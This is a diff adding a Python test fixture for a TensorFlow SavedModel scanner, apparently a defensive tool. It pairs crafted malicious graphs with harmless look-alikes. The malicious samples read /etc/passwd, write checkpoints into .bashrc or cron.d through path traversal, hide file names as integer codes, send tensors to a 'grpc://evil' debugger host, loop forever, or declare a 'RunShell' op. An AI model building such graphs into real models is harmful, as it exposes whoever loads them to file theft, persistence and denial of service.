@@ -1,0 +1,499 @@
+"""Models that an attacker made to look harmless, and harmless models that look like them.
+
+A graph is in the notation of tests/tfmodel/transforms/graph_notation.py, with the nodes of `_NODES` before it. A row
+of MODELS is a graph with the parts of a SavedModel that matter: what it saves, loads and initializes, its assets and
+its outputs.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Sequence
+from dataclasses import dataclass
+
+from tests.tfmodel.transforms.graph_notation import graph
+from tfmodel.messages import (
+    AssetFileDef,
+    AttrValue,
+    CollectionDef,
+    DataType,
+    GraphDef,
+    MetaGraphDef,
+    OpDef,
+    OpList,
+    SaverDef,
+    SignatureDef,
+    TensorInfo,
+)
+
+__all__ = ["GRAPHS", "HARMLESS_GRAPHS", "HARMLESS_MODELS", "MODELS", "Attack", "Model"]
+
+_NODES = """
+x = Placeholder[dtype=float, shape=(2, 3)]
+s = Placeholder[dtype=string, shape=()]
+b = Placeholder[dtype=bool, shape=()]
+i = Const[dtype=int32, value=int32{3}()]
+l = Const[dtype=int64, value=int64{1}()]
+path = Const[dtype=string, value=string{"/etc/passwd"}()]
+empty = Const[dtype=string, value=string{""}()]
+yes = Const[dtype=bool, value=bool{true}()]
+no = Const[dtype=bool, value=bool{false}()]
+none = Const[dtype=int64, value=int64{-1}()]
+codes = Const[dtype=int32, value=int32{47, 101, 116, 99}]
+splits = Const[dtype=int64, value=int64{0, 4}]
+text = UnicodeEncode(codes, splits)[Tsplits=int64, errors="replace", output_encoding="UTF-8", replacement_char=65533]
+hidden = Reshape(text, shape)[T=string, Tshape=int32]
+shape = Const[dtype=int32, value=int32{}(0)]
+"""
+
+_DATASET = "d = TensorDataset(x)[Toutput_types=[float], output_shapes=[(2, 3)]]\n"
+_OF_DATASET = "[output_types=[float], output_shapes=[(2, 3)]]"
+
+
+@dataclass(frozen=True)
+class Attack:
+    """A graph, and the kind of the finding about it."""
+
+    kind: str
+    text: str
+
+    @property
+    def graph(self) -> GraphDef:
+        return graph(_NODES + self.text)
+
+
+def _loop(condition: str, body: str = "r", initial: str = "i", more: str = "") -> str:
+    """Return a loop over an int32 `n` with a condition and a body, which may add nodes."""
+    return (
+        "c: (n: int32) -> (r: bool = r:output:0)\nc: one = Const[dtype=int32, value=int32{1}()]\n"
+        "c: t = Const[dtype=bool, value=bool{true}()]\nc: f = Const[dtype=bool, value=bool{false}()]\n"
+        f"{condition}\nc: r = Identity(q)[T=bool]\n"
+        "g: (n: int32) -> (r: int32 = r:output:0)\ng: one = Const[dtype=int32, value=int32{1}()]\n"
+        f"g: m = AddV2(n, one:output:0)[T=int32]\ng: r = Identity({body})[T=int32]\n{more}"
+        f"y = While({initial})[T=[int32], cond=@c, body=@g]"
+    ).replace("Identity(r)", "Identity(m:z:0)")
+
+
+_CALL = "[Tin=[string], Tout=[string], f=@f]"
+
+GRAPHS: dict[str, Attack] = {
+    # files in attributes and inputs
+    "a vocabulary of skip-grams": Attack("read", 'y = Skipgram[filename="/etc/passwd", batch_size=1]'),
+    "a constant in a file": Attack(
+        "read", 'y = ImmutableConst[dtype=float, shape=(1), memory_region_name="/etc/passwd"]'
+    ),
+    "an attribute with the name of the input": Attack("read", 'y = ReadFile(path)[filename="harmless"]'),
+    "an empty attribute with the name of the input": Attack(
+        "write", f'{_DATASET}y = CacheDataset(d, path){_OF_DATASET[:-1]}, filename=""]'
+    ),
+    "a copy that a debugger watches": Attack(
+        "write", 'y = Copy(x)[T=float, debug_ops_spec=["DebugIdentity;file:///tmp;0"]]'
+    ),
+    "a copy that a debugger sends": Attack(
+        "network", 'y = CopyHost(x)[T=float, debug_ops_spec=["DebugIdentity;grpc://evil:1;0"]]'
+    ),
+    "a heartbeat of a worker": Attack("exit", "y = WorkerHeartbeat(s)"),
+    # computed names
+    "a name of integers": Attack("read", "y = ReadFile(hidden)"),
+    "a cache whose empty name is computed": Attack("write", f"{_DATASET}y = CacheDataset(d, hidden){_OF_DATASET}"),
+    "a cache with an empty name or another": Attack(
+        "write", f"{_DATASET}c = Select(b, empty, hidden)[T=string]\ny = CacheDataset(d, c){_OF_DATASET}"
+    ),
+    "the content of a file names a file": Attack("read", "c = ReadFile(s)\ny = ReadFile(c)"),
+    "a table gives the name": Attack(
+        "write",
+        "t = HashTableV2[key_dtype=string, value_dtype=string]\n"
+        "c = LookupTableFindV2(t, s, empty)[Tin=string, Tout=string]\ny = WriteFile(c, s)",
+    ),
+    # checkpoints
+    "saving where a default says": Attack(
+        "write",
+        "p = PlaceholderWithDefault(path)[dtype=string, shape=()]\ny = SaveV2(p, s, s, x)[dtypes=[float]]",
+    ),
+    "saving where a default of a default says": Attack(
+        "write",
+        "p = PlaceholderWithDefault(path)[dtype=string, shape=()]\n"
+        "q = PlaceholderWithDefault(p)[dtype=string, shape=()]\ny = SaveV2(q, s, s, x)[dtypes=[float]]",
+    ),
+    "restoring what a default says": Attack(
+        "read",
+        "p = PlaceholderWithDefault(path)[dtype=string, shape=()]\ny = RestoreV2(p, s, s)[dtypes=[float]]",
+    ),
+    "saving where a drive letter says": Attack(
+        "write",
+        'm = Const[dtype=string, value=string{"C:model"}()]\ny = SaveV2(m, s, s, x)[dtypes=[float]]',
+    ),
+    "saving to a hidden file": Attack(
+        "write", 'm = Const[dtype=string, value=string{".bashrc"}()]\ny = SaveV2(m, s, s, x)[dtypes=[float]]'
+    ),
+    "saving to a relative path": Attack(
+        "write", 'm = Const[dtype=string, value=string{"etc/cron.d/x"}()]\ny = SaveV2(m, s, s, x)[dtypes=[float]]'
+    ),
+    "saving by the first version": Attack("write", "y = Save(hidden, s, x)[T=[float]]"),
+    "saving slices": Attack("write", "y = SaveSlices(path, s, s, x)[T=[float]]"),
+    "saving to the caller's choice or another": Attack(
+        "write", "p = Select(no, s, hidden)[T=string]\ny = SaveV2(p, s, s, x)[dtypes=[float]]"
+    ),
+    "saving behind a separator": Attack(
+        "write",
+        'e = Const[dtype=string, value=string{".part"}()]\n'
+        'p = StringJoin(s, e)[N=2, separator="/../../etc/cron.d/"]\ny = SaveV2(p, s, s, x)[dtypes=[float]]',
+    ),
+    "saving behind a part that leads away": Attack(
+        "write",
+        'e = Const[dtype=string, value=string{"_temp/../../x/part"}()]\n'
+        "p = StringJoin(s, e)[N=2]\ny = SaveV2(p, s, s, x)[dtypes=[float]]",
+    ),
+    "saving shards of a fixed name": Attack(
+        "write", "p = ShardedFilename(path, i, i)\ny = SaveV2(p, s, s, x)[dtypes=[float]]"
+    ),
+    "merging into a fixed name": Attack(
+        "write", "p = Pack(s, s)[T=string, N=2, axis=0]\ny = MergeV2Checkpoints(p, path)"
+    ),
+    "merging of a fixed name": Attack("read", "p = Pack(s, path)[T=string, N=2, axis=0]\ny = MergeV2Checkpoints(p, s)"),
+    "saving to the elements of a dataset": Attack(
+        "write",
+        "f: (a: string, e: float) -> (r: string = a)\nf: n = SaveV2(a, a, a, e)[dtypes=[float]]\n"
+        "d = TensorDataset(hidden, x)[Toutput_types=[string, float], output_shapes=[?, ?]]\n"
+        "y = MapDataset(d)[f=@f, Targuments=[], output_types=[string], output_shapes=[?]]",
+    ),
+    "saving in a function that a gradient calls": Attack(
+        "write",
+        "f: (a: string, e: float) -> (r: float = e)\nf: n = SaveV2(a, a, a, e)[dtypes=[float]]\n"
+        "y = SymbolicGradient(hidden, x, x)[Tin=[string, float, float], Tout=[string, float], f=@f]",
+    ),
+    # variables
+    "a variable with another value": Attack(
+        "write",
+        'v = VarHandleOp[dtype=string, shape=(), shared_name="v"]\na = AssignVariableOp(v, empty)[dtype=string]\n'
+        'w = VarHandleOp[dtype=string, shape=(), shared_name="v"]\nz = AssignVariableOp(w, path)[dtype=string]\n'
+        f"r = ReadVariableOp(v)[dtype=string]\n{_DATASET}y = CacheDataset(d, r){_OF_DATASET}",
+    ),
+    "a variable that a checkpoint restores": Attack(
+        "write",
+        'v = VarHandleOp[dtype=string, shape=(), shared_name="v"]\nr = RestoreV2(s, s, s)[dtypes=[string]]\n'
+        "a = AssignVariableOp(v, r)[dtype=string]\nq = ReadVariableOp(v)[dtype=string]\n"
+        "y = SaveV2(q, s, s, x)[dtypes=[float]]",
+    ),
+    "a variable of TensorFlow 1": Attack(
+        "write",
+        "v = VariableV2[dtype=string, shape=()]\na = Assign(v, path)[T=string]\ny = SaveV2(v, s, s, x)[dtypes=[float]]",
+    ),
+    "a variable that a function sets": Attack(
+        "write",
+        "f: (h: resource, a: string) -> (r: string = a)\nf: n = AssignVariableOp(h, a)[dtype=string]\n"
+        'v = VarHandleOp[dtype=string, shape=(), shared_name="v"]\n'
+        "z = StatefulPartitionedCall(v, path)[Tin=[resource, string], Tout=[string], f=@f]\n"
+        "q = ReadVariableOp(v)[dtype=string]\ny = SaveV2(q, s, s, x)[dtypes=[float]]",
+    ),
+    "a variable that nothing sets": Attack(
+        "write",
+        'v = VarHandleOp[dtype=string, shape=(), shared_name="v"]\nq = ReadVariableOp(v)[dtype=string]\n'
+        "y = SaveV2(q, s, s, x)[dtypes=[float]]",
+    ),
+    # functions
+    "a name from a branch": Attack(
+        "write",
+        'f: (a: string) -> (r: string = n:output:0)\nf: n = Const[dtype=string, value=string{"/etc/x"}()]\n'
+        "g: (a: string) -> (r: string = a)\n"
+        "p = If(b, s)[Tcond=bool, Tin=[string], Tout=[string], then_branch=@g, else_branch=@f]\n"
+        "y = SaveV2(p, s, s, x)[dtypes=[float]]",
+    ),
+    "a name from a loop that does not run": Attack(
+        "write",
+        "f: (a: string) -> (r: bool = n:output:0)\nf: n = Const[dtype=bool, value=bool{false}()]\n"
+        'g: (a: string) -> (r: string = n:output:0)\ng: n = Const[dtype=string, value=string{"model"}()]\n'
+        "p = While(hidden)[T=[string], cond=@f, body=@g]\ny = SaveV2(p, s, s, x)[dtypes=[float]]",
+    ),
+    "a function with the name of an op": Attack(
+        "function", "ReadFile: (filename: string) -> (contents: string = filename)\ny = ReadFile(path)"
+    ),
+    # loops
+    "a condition that a function gives": Attack(
+        "endless",
+        "t: (n: int32) -> (r: bool = o:output:0)\nt: o = Const[dtype=bool, value=bool{true}()]\n"
+        + _loop("c: q = PartitionedCall(n)[Tin=[int32], Tout=[bool], f=@t]").replace(
+            "Identity(q)", "Identity(q:output:0)"
+        ),
+    ),
+    "not false": Attack("endless", _loop("c: q = LogicalNot(f:output:0)").replace("(q)", "(q:y:0)")),
+    "true or not": Attack(
+        "endless",
+        _loop("c: p = Less(n, one:output:0)[T=int32]\nc: q = LogicalOr(p:z:0, t:output:0)").replace("(q)", "(q:z:0)"),
+    ),
+    "one is one": Attack(
+        "endless", _loop("c: q = Equal(one:output:0, one:output:0)[T=int32]").replace("(q)", "(q:z:0)")
+    ),
+    "a counter equals itself": Attack("endless", _loop("c: q = LessEqual(n, n)[T=int32]").replace("(q)", "(q:z:0)")),
+    "a counter that stays": Attack(
+        "endless",
+        _loop("c: q = GreaterEqual(n, one:output:0)[T=int32]", body="n").replace("(q)", "(q:z:0)"),
+    ),
+    "a number that becomes true": Attack(
+        "endless", _loop("c: q = Cast(one:output:0)[SrcT=int32, DstT=bool]").replace("(q)", "(q:y:0)")
+    ),
+    "a choice of true": Attack(
+        "endless", _loop("c: q = Select(t:output:0, t:output:0, f:output:0)[T=bool]").replace("(q)", "(q:output:0)")
+    ),
+    "a condition of a vector": Attack(
+        "endless",
+        _loop(
+            "c: v = Const[dtype=bool, value=bool{true, true}]\nc: z = Const[dtype=int32, value=int32{0}]\n"
+            "c: q = All(v:output:0, z:output:0)[Tidx=int32]"
+        ).replace("(q)", "(q:output:0)"),
+    ),
+    "a loop without state": Attack(
+        "endless",
+        _loop("c: q = Identity(t:output:0)[T=bool]")
+        .replace("(q)", "(q:output:0)")
+        .replace("= While", "= StatelessWhile"),
+    ),
+    "a loop in a function that is told to run": Attack(
+        "endless",
+        "c: (n: bool) -> (r: bool = n)\ng: (n: bool) -> (r: bool = n)\n"
+        "f: (a: bool) -> (r: bool = w:output:0)\nf: w = While(a)[T=[bool], cond=@c, body=@g]\n"
+        "y = StatefulPartitionedCall(yes)[Tin=[bool], Tout=[bool], f=@f]",
+    ),
+    "a flag that the body sets again": Attack(
+        "endless",
+        "c: (n: bool) -> (r: bool = n)\ng: (n: bool) -> (r: bool = t:output:0)\n"
+        "g: t = Const[dtype=bool, value=bool{true}()]\ny = While(yes)[T=[bool], cond=@c, body=@g]",
+    ),
+    "a loop of TensorFlow 1 with a counter that stays": Attack(
+        "endless",
+        'e = Enter(i)[T=int32, frame_name="f"]\nm = Merge(e, n)[T=int32, N=2]\n'
+        'k = Enter(i)[T=int32, frame_name="f", is_constant=true]\nq = LessEqual(m, k)[T=int32]\nc = LoopCond(q)\n'
+        "w = Switch(m, c)[T=int32]\nn = NextIteration(w:1)[T=int32]\ny = Exit(w)[T=int32]",
+    ),
+    "a loop of TensorFlow 1 with not false": Attack(
+        "endless",
+        'e = Enter(x)[T=float, frame_name="f"]\nm = Merge(e, n)[T=float, N=2]\n'
+        'k = Enter(no)[T=bool, frame_name="f", is_constant=true]\nq = LogicalNot(k)\nc = LoopCond(q)\n'
+        "w = Switch(m, c)[T=float]\nn = NextIteration(w:1)[T=float]\ny = Exit(w)[T=float]",
+    ),
+    "a function that calls itself": Attack(
+        "endless",
+        f"f: (a: string) -> (r: string = n:output:0)\nf: n = PartitionedCall(a){_CALL}\ny = PartitionedCall(s){_CALL}",
+    ),
+    "functions that call each other": Attack(
+        "endless",
+        "f: (a: string) -> (r: string = n:output:0)\nf: n = PartitionedCall(a)[Tin=[string], Tout=[string], f=@g]\n"
+        f"g: (a: string) -> (r: string = n:output:0)\ng: n = StatefulPartitionedCall(a){_CALL}\n",
+    ),
+    "a function that calls itself in a branch": Attack(
+        "endless",
+        "g: (a: string) -> (r: string = a)\n"
+        "f: (a: string) -> (r: string = n:output:0)\nf: t = Const[dtype=bool, value=bool{true}()]\n"
+        "f: n = If(t:output:0, a)[Tcond=bool, Tin=[string], Tout=[string], then_branch=@f, else_branch=@g]",
+    ),
+    "a function that calls itself by its name": Attack(
+        "endless", "f: (a: string) -> (r: string = n:r:0)\nf: n = f(a)\ny = f(s)"
+    ),
+    "a dataset without an end": Attack(
+        "endless",
+        "f: (a: float, e: float) -> (r: float = a)\n"
+        f"{_DATASET}e = RepeatDataset(d, none){_OF_DATASET}\n"
+        "y = ReduceDataset(e, x)[f=@f, Tstate=[float], Targuments=[], output_types=[float], output_shapes=[(2, 3)]]",
+    ),
+}
+
+HARMLESS_GRAPHS: dict[str, str] = {
+    "a loop that counts": _loop(
+        "c: k = Const[dtype=int32, value=int32{9}()]\nc: q = Less(n, k:output:0)[T=int32]"
+    ).replace("(q)", "(q:z:0)"),
+    "a loop with a limit besides a condition that is true": _loop(
+        "c: k = Const[dtype=int32, value=int32{9}()]\nc: p = Less(n, k:output:0)[T=int32]\n"
+        "c: q = LogicalAnd(p:z:0, t:output:0)"
+    ).replace("(q)", "(q:z:0)"),
+    "a loop that does not run": _loop("c: q = LogicalNot(t:output:0)").replace("(q)", "(q:y:0)"),
+    "a loop that the caller controls": "c: (n: bool) -> (r: bool = n)\ng: (n: bool) -> (r: bool = n)\n"
+    "y = While(b)[T=[bool], cond=@c, body=@g]",
+    "a loop of TensorFlow 1 that counts": 'e = Enter(i)[T=int32, frame_name="f"]\nm = Merge(e, n)[T=int32, N=2]\n'
+    'k = Enter(i)[T=int32, frame_name="f", is_constant=true]\nq = Less(m, k)[T=int32]\nc = LoopCond(q)\n'
+    "w = Switch(m, c)[T=int32]\na = AddV2(w:1, k)[T=int32]\nn = NextIteration(a)[T=int32]\ny = Exit(w)[T=int32]",
+    "functions that call others": "g: (a: string) -> (r: string = a)\n"
+    "f: (a: string) -> (r: string = n:output:0)\nf: n = PartitionedCall(a)[Tin=[string], Tout=[string], f=@g]\n"
+    f"y = PartitionedCall(s){_CALL}",
+    "a dataset of which a part is taken": "f: (a: float, e: float) -> (r: float = a)\n"
+    f"{_DATASET}e = RepeatDataset(d, none){_OF_DATASET}\nt = TakeDataset(e, l){_OF_DATASET}\n"
+    "y = ReduceDataset(t, x)[f=@f, Tstate=[float], Targuments=[], output_types=[float], output_shapes=[(2, 3)]]",
+    "a saver of TensorFlow 1": 'm = Const[dtype=string, value=string{"model"}()]\n'
+    "p = PlaceholderWithDefault(m)[dtype=string, shape=()]\nq = PlaceholderWithDefault(p)[dtype=string, shape=()]\n"
+    'e = Const[dtype=string, value=string{"_temp_0123456789abcdef/part"}()]\n'
+    "j = StringJoin(q, e)[N=2]\nn = ShardedFilename(j, i, i)\nv = SaveV2(n, s, s, x)[dtypes=[float]]\n"
+    "k = Pack(n)[T=string, N=1, axis=0]\nu = MergeV2Checkpoints(k, q)\nr = RestoreV2(q, s, s)[dtypes=[float]]",
+    "a saver in functions": "f: (a: string, e: float) -> (r: string = a)\nf: n = SaveV2(a, a, a, e)[dtypes=[float]]\n"
+    "y = StatefulPartitionedCall(s, x)[Tin=[string, float], Tout=[string], f=@f]",
+    "a constant of a package": 'y = ImmutableConst[dtype=float, shape=(1), memory_region_name="memmapped_package://a"]',
+    "strings that are no paths": 'y = StringJoin(path, s)[N=2]\nz = StringLength(y)[unit="BYTE"]',
+}
+
+
+@dataclass(frozen=True)
+class Model:
+    """A graph with parts of a SavedModel: tensors that are the outputs, assets, what initializes, saves and restores.
+
+    `saver` are the tensor that is fed with the path, the tensor that saves and the node that restores.
+    """
+
+    kind: str
+    text: str
+    outputs: Sequence[str] = ()
+    assets: Sequence[str] = ()
+    initial: str = ""
+    saver: Sequence[str] = ()
+    ops: Sequence[str] = ()
+
+    @property
+    def meta(self) -> MetaGraphDef:
+        meta = MetaGraphDef(
+            meta_info_def=MetaGraphDef.MetaInfoDef(tags=["serve"]),
+            graph_def=graph(_NODES + self.text),
+            signature_def={
+                "serving_default": SignatureDef(
+                    outputs={name: TensorInfo(name=name, dtype=DataType.DT_STRING) for name in self.outputs}
+                )
+            },
+            asset_file_def=[AssetFileDef(filename="vocab", tensor_info=TensorInfo(name=name)) for name in self.assets],
+        )
+        if self.initial:
+            nodes = CollectionDef.NodeList(value=[self.initial])
+            meta.collection_def = {"saved_model_main_op": CollectionDef(node_list=nodes)}
+        if self.saver:
+            meta.saver_def = SaverDef(
+                filename_tensor_name=self.saver[0], save_tensor_name=self.saver[1], restore_op_name=self.saver[2]
+            )
+        if self.ops:
+            attribute = OpDef.AttrDef(name="filename", type="string", default_value=AttrValue(s=b""))
+            own = [
+                OpDef(
+                    name=name,
+                    input_arg=[OpDef.ArgDef(name="in", type=DataType.DT_STRING)],
+                    output_arg=[OpDef.ArgDef(name="out", type=DataType.DT_STRING)],
+                    attr=[attribute],
+                )
+                for name in self.ops
+            ]
+            meta.meta_info_def.stripped_op_list = OpList(op=own)
+        return meta
+
+
+_ASSET = 'p = Const[dtype=string, value=string{"vocab"}()]\n'
+_TABLE = "t = HashTableV2[key_dtype=string, value_dtype=int64]\n"
+_FILL = "[key_index=-2, value_index=-1]"
+
+MODELS: dict[str, Model] = {
+    "an asset that is computed": Model("read", "y = ReadFile(hidden)", ["y:0"], ["hidden:0"]),
+    "an asset that is passed on": Model("read", "p = Identity(hidden)[T=string]\ny = ReadFile(p)", ["y:0"], ["p:0"]),
+    "an asset that is joined": Model("read", "p = StringJoin(path, empty)[N=2]\ny = ReadFile(p)", ["y:0"], ["p:0"]),
+    "an asset that is a default": Model(
+        "read", "p = PlaceholderWithDefault(path)[dtype=string, shape=()]\ny = ReadFile(p)", ["y:0"], ["p:0"]
+    ),
+    "another output of the node of an asset": Model(
+        "read",
+        "k = Pack(path, path)[T=string, N=2, axis=0]\nz = Const[dtype=int32, value=int32{0}()]\n"
+        "p = Split(z, k)[T=string, num_split=2]\ny = ReadFile(p:1)",
+        [],
+        ["p:0"],
+        "y",
+    ),
+    "the content of an asset names a file": Model(
+        "read", f"{_ASSET}c = ReadFile(p)\ny = ReadFile(c)", [], ["p:0"], "y"
+    ),
+    "the content of an asset names a table": Model(
+        "read",
+        f"{_ASSET}{_TABLE}c = ReadFile(p)\ny = InitializeTableFromTextFileV2(t, c){_FILL}",
+        [],
+        ["p:0"],
+        "y",
+    ),
+    "an asset or another file": Model(
+        "read", f"{_ASSET}c = Select(b, p, hidden)[T=string]\ny = ReadFile(c)", [], ["p:0"], "y"
+    ),
+    "a file beside an asset": Model(
+        "read",
+        f'{_ASSET}e = Const[dtype=string, value=string{{"/../../x"}}()]\nc = StringJoin(p, e)[N=2]\ny = ReadFile(c)',
+        [],
+        ["p:0"],
+        "y",
+    ),
+    "an asset that restoring reads": Model(
+        "read",
+        f"{_ASSET}c = ReadFile(p)\nr = NoOp(^c)\nk = Identity(s)[T=string]",
+        [],
+        ["p:0"],
+        "",
+        ["s:0", "k:0", "r"],
+    ),
+    "saving an asset": Model("write", f"{_ASSET}y = SaveV2(p, s, s, x)[dtypes=[float]]", [], ["p:0"], "y"),
+    "saving while the model is loaded": Model(
+        "write",
+        "p = PlaceholderWithDefault(path)[dtype=string, shape=()]\nv = SaveV2(p, s, s, x)[dtypes=[float]]\n"
+        "k = Identity(p, ^v)[T=string]\nr = NoOp",
+        [],
+        [],
+        "v",
+        ["p:0", "k:0", "r"],
+    ),
+    "saving when the model runs": Model(
+        "write",
+        "v = SaveV2(s, s, s, x)[dtypes=[float]]\ny = Identity(s, ^v)[T=string]\nr = NoOp",
+        ["y:0"],
+        [],
+        "",
+        ["s:0", "y:0", "r"],
+    ),
+    "saving where another output than the one that is fed says": Model(
+        "write",
+        "q = Pack(path, path)[T=string, N=2, axis=0]\nz = Const[dtype=int32, value=int32{0}()]\n"
+        "p = Split(z, q)[T=string, num_split=2]\nv = SaveV2(p:1, s, s, x)[dtypes=[float]]\n"
+        "k = Identity(s, ^v)[T=string]\nr = NoOp",
+        [],
+        [],
+        "",
+        ["p:0", "k:0", "r"],
+    ),
+    "an op that only the model declares": Model("op", "y = RunShell(path)", ["y:0"], ops=["RunShell"]),
+    "an op of a later version that the model declares": Model(
+        "read", "y = TFRecordDatasetV2(path)", ["y:0"], ops=["TFRecordDatasetV2"]
+    ),
+    "an op of TensorRT that the model declares": Model(
+        "write", "y = SerializeTRTResource(path)", ["y:0"], ops=["SerializeTRTResource"]
+    ),
+    "an op of TensorFlow that the model declares again": Model(
+        "read", 'y = ReadFile(path)[filename=""]', ["y:0"], ops=["ReadFile"]
+    ),
+    "an op in a function that only the model declares": Model(
+        "op",
+        f"f: (a: string) -> (r: string = n:out:0)\nf: n = RunShell(a)\ny = StatefulPartitionedCall(path){_CALL}",
+        ["y:0"],
+        ops=["RunShell"],
+    ),
+}
+
+HARMLESS_MODELS: dict[str, Model] = {
+    "a table that is filled with an asset": Model(
+        "", f"{_ASSET}{_TABLE}y = InitializeTableFromTextFileV2(t, p){_FILL}", [], ["p:0"], "y"
+    ),
+    "an asset that is passed on": Model(
+        "",
+        f"{_ASSET}{_TABLE}q = Identity(p)[T=string]\ny = InitializeTableFromTextFileV2(t, q){_FILL}",
+        [],
+        ["p:0"],
+        "y",
+    ),
+    "an asset that is computed, and fed while the model is loaded": Model(
+        "", f"{_TABLE}y = InitializeTableFromTextFileV2(t, hidden){_FILL}", [], ["hidden:0"], "y"
+    ),
+    "an asset in a placeholder": Model(
+        "", "p = Placeholder[dtype=string, shape=()]\ny = ReadFile(p)", [], ["p:0"], "y"
+    ),
+    "saving and restoring at a default that is fed": Model(
+        "",
+        "p = PlaceholderWithDefault(path)[dtype=string, shape=()]\nv = SaveV2(p, s, s, x)[dtypes=[float]]\n"
+        "k = Identity(p, ^v)[T=string]\nq = RestoreV2(p, s, s)[dtypes=[float]]\nr = NoOp(^q)",
+        [],
+        [],
+        "",
+        ["p:0", "k:0", "r"],
+    ),
+}
